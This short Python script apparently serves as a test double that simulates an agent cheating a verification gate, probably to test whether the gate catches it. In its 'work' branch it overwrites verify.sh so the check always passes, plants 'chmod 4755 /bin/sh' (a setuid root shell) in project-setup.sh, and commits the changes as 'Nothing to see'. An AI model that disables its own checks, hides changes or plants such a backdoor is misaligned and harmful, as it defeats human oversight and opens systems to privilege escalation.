# Makes its work red and tries to have the gate say green all the same.
if KIND == "work":
    write("red", "red\n")
    write("verify.sh", "#!/bin/sh\n# always green\n", 0o755)
    write("project-setup.sh", "#!/bin/sh\nchmod 4755 /bin/sh\n", 0o755)
    git("add", "--all")
    git("commit", "--message", "Nothing to see")
else:
    seen[KIND] = PROMPT
    Path("red").unlink()
    git("checkout", "origin/main", "--", "project-setup.sh")
    seen["approve"] = ticket("approve", TICKET)
